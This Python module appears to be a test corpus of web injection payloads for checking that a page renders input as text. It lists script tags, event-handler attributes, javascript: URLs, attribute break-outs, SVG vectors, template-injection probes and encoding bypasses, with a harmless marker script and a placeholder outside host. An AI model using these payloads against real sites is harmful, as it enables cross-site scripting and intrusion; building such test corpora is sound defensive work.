"""Words that would run, reach out or change a page if any page took them for more than words.

`RUN` sets a mark in the window, `OUT` is another server. One a line, by what they try.
"""

RUN = "window.planted=1"
OUT = "//elsewhere.invalid/x"

_HTML = """
<script>RUN</script>
<ScRiPt >RUN</sCrIpT >
<script src=OUT></script>
<img src=x onerror=RUN>
<img src=OUT>
<body onload=RUN>
<iframe srcdoc='<script>parent.RUN</script>'></iframe>
<iframe src=javascript:parent.RUN>
<input autofocus onfocus=RUN>
<details open ontoggle=RUN>
<video><source onerror=RUN>
<object data=OUT></object>
<embed src=OUT>
<base href=OUT>
<meta http-equiv=refresh content='0;url=OUT'>
<link rel=stylesheet href=OUT>
<form action=OUT id=planted><input type=submit autofocus>
<a href=javascript:RUN>go</a>
<marquee onstart=RUN>
<template shadowrootmode=open><img src=x onerror=RUN></template>
"""
_OUT_OF_SOMETHING = """
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
" autofocus onfocus="RUN
' autofocus onfocus='RUN
x onmouseover=RUN y
</textarea><img src=x onerror=RUN>
</title><img src=x onerror=RUN>
--><img src=x onerror=RUN>
]]><img src=x onerror=RUN>
</script><script>RUN</script>
</style><script>RUN</script>
`><img src=x onerror=RUN>
&quot;><img src=x onerror=RUN>
&lt;script&gt;RUN&lt;/script&gt;
&#60;script>RUN</script>
"""
_SVG = """
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x>
<svg><a href=javascript:RUN><text y=9>x</text></a></svg>
<math><mi xlink:href=javascript:RUN>x
<svg><style><img src=x onerror=RUN></style></svg>
<svg><use href=OUT#a></svg>
"""
_ADDRESSES = """
javascript:RUN
java&#9;script:RUN
data:text/html,<script>RUN</script>
vbscript:RUN
https:OUT
OUT
"""
_TEMPLATES = """
{{7*7}}
{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}
{{ self.__init__.__globals__ }}
${7*7}
#{7*7}
<%= 7*7 %>
[go](javascript:RUN)
![x](OUT)
<elsewhere.invalid/x>
**<img src=x onerror=RUN>**
"""
_STYLES = """
} body{background:url(OUT)}
<style>@import 'OUT';</style>
<p style=background:url(OUT)>
expression(RUN)
"""
_CHARACTERS = """
＜script＞RUN＜/script＞
<ſcript>RUN</ſcript>
<img/src=x/onerror=RUN>
+ADw-script+AD4-RUN+ADw-/script+AD4-
\\u003cimg src=x onerror=RUN\\u003e
%3Cscript%3ERUN%3C/script%3E
\u202e<img src=x onerror=RUN>
<img\u2003src=x\u2003onerror=RUN>
<\0img src=x onerror=RUN>
"""

PAYLOADS = [
    line.replace("RUN", RUN).replace("OUT", OUT)
    for kind in (_HTML, _OUT_OF_SOMETHING, _SVG, _ADDRESSES, _TEMPLATES, _STYLES, _CHARACTERS)
    for line in kind.strip("\n").split("\n")
]
